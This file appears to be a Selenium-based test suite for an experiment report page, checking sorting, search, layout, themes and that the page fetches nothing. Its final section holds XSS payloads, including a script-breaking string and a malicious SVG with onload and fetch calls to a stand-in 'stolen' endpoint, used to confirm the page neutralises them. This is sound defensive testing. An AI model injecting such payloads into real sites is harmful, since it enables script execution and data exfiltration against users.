"""The report page in a real browser: it draws, sorts, searches and opens, loads nothing, and runs nothing hostile."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from ray_artifact_sync import layout
from ray_artifact_sync.journal import JournalRecord, SentFile, SkipNote, encode_line
from ray_artifact_sync.stores.posix import PosixStore
from tests.support.experiments import make_experiment, make_trial
from tests.support.sessions import open_session, save

browsers = pytest.importorskip("tests.support.browser", reason="selenium is not installed")
if reason := browsers.missing():
    pytest.skip(reason, allow_module_level=True)

ROOT = Path(__file__).parents[2]
PHONE = {"width": 390, "height": 844}


def make_page(experiment: Path, output: Path) -> str:
    subprocess.run(
        [sys.executable, "-m", "ray_artifact_sync", "report", str(experiment), "-o", str(output)],
        cwd=ROOT,
        check=True,
        stdout=subprocess.DEVNULL,
        timeout=120,
    )
    return output.as_uri()


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> str:
    """The report of an experiment with eight ordinary trials, one without a journal, one with a damaged manifest."""
    root = tmp_path_factory.mktemp("report")
    experiment = make_experiment(root, 8)
    make_trial(experiment / "older_00000", root / "older", 77, journal=False)
    make_trial(experiment / "zz_damaged", root / "damaged", 78, journal=False)
    (experiment / "zz_damaged" / layout.MANIFEST).write_text("{")
    return make_page(experiment, root / "report.html")


@pytest.fixture(scope="module")
def desktop(page) -> Iterator:
    with browsers.browser() as driver:
        yield driver


@pytest.fixture
def opened(desktop, page):
    """The page, fresh, in a large window."""
    return load(desktop, page)


def load(driver, url):
    driver.get(url)
    until(driver, "return document.documentElement.dataset.ready")
    return driver


def until(driver, script, seconds=30):
    ends = time.monotonic() + seconds
    while not (found := driver.execute_script(script)):
        assert time.monotonic() < ends, f"never true: {script}"
        time.sleep(0.02)
    return found


def complaints(driver) -> list[str]:
    return [entry["message"] for entry in driver.get_log("browser")]


def requests(driver) -> list[str]:
    """Every address that the browser asked for, except for its own first page."""
    messages = [json.loads(entry["message"])["message"] for entry in driver.get_log("performance")]
    sent = [message["params"]["request"] for message in messages if message["method"] == "Network.requestWillBeSent"]
    return [request["url"] for request in sent if not request["url"].startswith("chrome:")]


NAMES = "return [...document.querySelectorAll('.trial .toggle .name')].map((one) => one.textContent)"


def test_it_draws_and_loads_nothing_else(opened, page):
    assert opened.execute_script("return document.querySelectorAll('.trial').length") == 10
    assert opened.title.startswith("experiment")
    until(opened, "return document.querySelectorAll('.lane svg .mark.checkpoint').length >= 4")
    until(opened, "return [...document.querySelectorAll('img.small')].filter((one) => one.naturalWidth).length >= 4")
    asked = requests(opened)
    assert {url.partition(":")[0] for url in asked} == {"file", "data"}
    assert {url for url in asked if url.startswith("file")} == {page}
    assert complaints(opened) == []


def test_it_says_what_is_missing(opened):
    text = opened.execute_script("return document.getElementById('notices').textContent")
    assert "2 trials of 10 have no journal" in text
    assert "damaged list" in opened.execute_script("return document.getElementById('rows').textContent")


def test_sorting(opened):
    def sort(label):
        opened.execute_script(
            "[...document.querySelectorAll('.headings button')]"
            ".find((one) => one.textContent.startsWith(arguments[0])).click()",
            label,
        )
        return opened.execute_script(NAMES)

    by_name = sort("Trial")
    assert by_name == sorted(by_name)
    assert by_name[0] == "older_00000"
    assert sort("Trial") == by_name[::-1]
    sort("Failures")
    states = opened.execute_script(
        "return [...document.querySelectorAll('.headings [role=columnheader]')].map((c) => c.getAttribute('aria-sort'))"
    )
    assert states.count("descending") == 1
    assert opened.execute_script(NAMES)[0] == "zz_damaged"  # trouble first


def test_searching(opened):
    def search(text):
        box = opened.find_element("id", "search")
        box.clear()
        box.send_keys(text)
        return opened.execute_script(NAMES)

    assert search("older") == ["older_00000"]
    assert len(search("slowdown")) >= 1  # an error message
    assert len(search("confusion.png RESNET")) == 8  # a file; all words must be found
    assert search("no such thing") == []
    assert "Nothing matches" in opened.execute_script("return document.getElementById('rows').textContent")


def test_a_trial_opens_in_place(opened):
    toggle = opened.find_elements("css selector", ".trial .toggle")[0]
    toggle.click()
    assert toggle.get_attribute("aria-expanded") == "true"
    titles = opened.execute_script("return [...document.querySelectorAll('.details h3')].map((one) => one.textContent)")
    assert titles[:2] == ["Timeline", "Bytes sent and bytes changed, summed up"]
    assert {"Largest files", "Fastest growing files", "Not synced (3)", "Pictures (2)"} <= set(titles)
    until(opened, "return document.querySelector('.big svg .mark.sync') && document.querySelector('.chart .line-sent')")
    opened.execute_script(
        "const svg = document.querySelector('.big svg'); const at = svg.getBoundingClientRect();"
        "svg.dispatchEvent(new PointerEvent('pointermove', {clientX: at.left + 40, clientY: at.top + 30}))"
    )
    assert "sent" in opened.execute_script("return document.querySelector('.tip').textContent")
    opened.execute_script("document.querySelector('.all summary').click()")
    until(opened, "return document.querySelectorAll('.all li').length >= 50")
    toggle.click()
    assert opened.find_elements("css selector", ".details .big") == []


def test_texts_and_tables_open_in_place(opened):
    opened.find_elements("css selector", ".trial .toggle")[0].click()
    for name in ("predictions.csv", "train.log"):
        opened.execute_script(
            "[...document.querySelectorAll('.file summary')]"
            ".find((one) => one.textContent.startsWith(arguments[0])).click()",
            name,
        )
    until(opened, "return document.querySelector('.file table.data') && document.querySelector('.file pre')")
    header = opened.execute_script(
        "return [...document.querySelectorAll('table.data th')].map((one) => one.textContent)"
    )
    assert header == ["id", "score", "label"]
    assert opened.execute_script("return document.querySelectorAll('.data tbody tr').length") == 120
    assert opened.execute_script("return document.querySelector('.file pre').textContent").startswith(
        "step     0  loss"
    )


def test_pictures_open_large(opened):
    opened.find_elements("css selector", ".trial .thumb")[0].click()
    until(opened, "const image = document.querySelector('#viewer[open] img'); return image && image.naturalWidth > 0")
    first = opened.execute_script("return document.querySelector('#viewer .name').textContent")
    opened.execute_script("document.querySelector('#viewer [aria-label=\"Next picture\"]').click()")
    assert opened.execute_script("return document.querySelector('#viewer .name').textContent") != first
    opened.execute_script("document.querySelector('#viewer [aria-label=Close]').click()")
    assert not opened.execute_script("return document.getElementById('viewer').open")
    assert complaints(opened) == []


COLOURS = """
const seen = getComputedStyle(document.body);
return [seen.backgroundColor, seen.color]
"""


def brightness(colour: str) -> float:
    return sum(int(part) for part in colour.removeprefix("rgb(").removesuffix(")").split(",")) / 3


@pytest.mark.parametrize("dark", [False, True])
def test_light_and_dark(page, dark):
    with browsers.browser(dark=dark) as driver:
        background, text = map(brightness, load(driver, page).execute_script(COLOURS))
        assert (background < text) is dark
        assert abs(background - text) > 150  # easy to read
        driver.find_element("id", "theme").click()
        background, text = map(brightness, driver.execute_script(COLOURS))
        assert (background > text) is dark


def test_a_phone(page):
    with browsers.browser(**PHONE) as driver:
        load(driver, page)
        assert driver.execute_script("return [document.documentElement.scrollWidth, innerWidth]") == [390, 390]
        driver.execute_script("document.querySelector('.trial .toggle').click()")
        until(driver, "return document.querySelector('.chart')")
        assert driver.execute_script("return document.documentElement.scrollWidth") == 390
        too_wide = driver.execute_script(
            "return [...document.querySelectorAll('.line > .cell, .block, .notice, .figures > div')]"
            ".filter((one) => { const at = one.getBoundingClientRect(); return at.right > 391 || at.left < 0; }).length"
        )
        assert too_wide == 0
        small = driver.execute_script(
            "return [...document.querySelectorAll('.search input, .order select, .theme')]"
            ".filter((one) => one.getBoundingClientRect().height < 40).length"
        )
        assert small == 0  # fingers are large
        driver.execute_script(
            "const order = document.getElementById('order'); order.value = 'name:up';"
            "order.dispatchEvent(new Event('change'))"
        )
        assert driver.execute_script(NAMES)[0] == "older_00000"


# --- hostile input ---------------------------------------------------------------------------------

ATTACK = "</script><script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'>&lt;{{data}}"
EVIL_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="parent.hacked = 3">
<script>window.hacked = parent.hacked = top.hacked = 4; fetch("http://127.0.0.1:9/stolen")</script>
<image href="http://127.0.0.1:9/track.png" width="40" height="40"/><rect width="40" height="40" fill="red"/></svg>"""


def test_hostile_names_and_contents_do_nothing(tmp_path):
    name = ATTACK.replace("/", "_")
    directory, work = tmp_path / "exp" / f"trial {name}", tmp_path / "work"
    session = open_session(work, PosixStore(directory), 1, trial=directory.name)
    (work / f"{name}.txt").write_text(ATTACK)
    (work / f"{name}.csv").write_text(f'"{ATTACK}",b\n1,"{ATTACK}"\n')
    (work / f"{name}.svg").write_bytes(EVIL_SVG)
    assert save(session, "checkpoint_000000")
    session.close()
    record = JournalRecord(
        kind="sync",
        t=time.time(),
        error=ATTACK,
        host=ATTACK,
        checkpoint=ATTACK,
        skips=(SkipNote(ATTACK, ATTACK, ATTACK),),
        sent=(SentFile(ATTACK, 1, 1),),
    )
    PosixStore(directory).put(f"{layout.JOURNAL}/{layout.journal_name(layout.make_token(9), 0)}", encode_line(record))
    with browsers.browser() as driver:
        load(driver, make_page(tmp_path / "exp", tmp_path / "report.html"))
        driver.execute_script("document.querySelectorAll('details summary').forEach((one) => one.click())")
        until(driver, "return document.querySelector('pre') && document.querySelector('table.data')")
        driver.find_element("css selector", ".thumb").click()
        until(
            driver, "const image = document.querySelector('#viewer img'); return image.complete && image.naturalWidth"
        )
        assert driver.execute_script("return typeof window.hacked") == "undefined"
        assert driver.execute_script("return document.querySelectorAll('img').length") == 3  # two thumbnails, one large
        assert "window.hacked = 1" in driver.execute_script("return document.querySelector('pre').textContent")
        assert not [url for url in requests(driver) if url.startswith("http")]
        # Even what runs in the page can load nothing.
        blocked = driver.execute_async_script(
            "const done = arguments[0]; document.addEventListener('securitypolicyviolation',"
            " (event) => done(event.violatedDirective)); fetch('http://127.0.0.1:9/').catch(() => null)"
        )
        assert blocked == "connect-src"
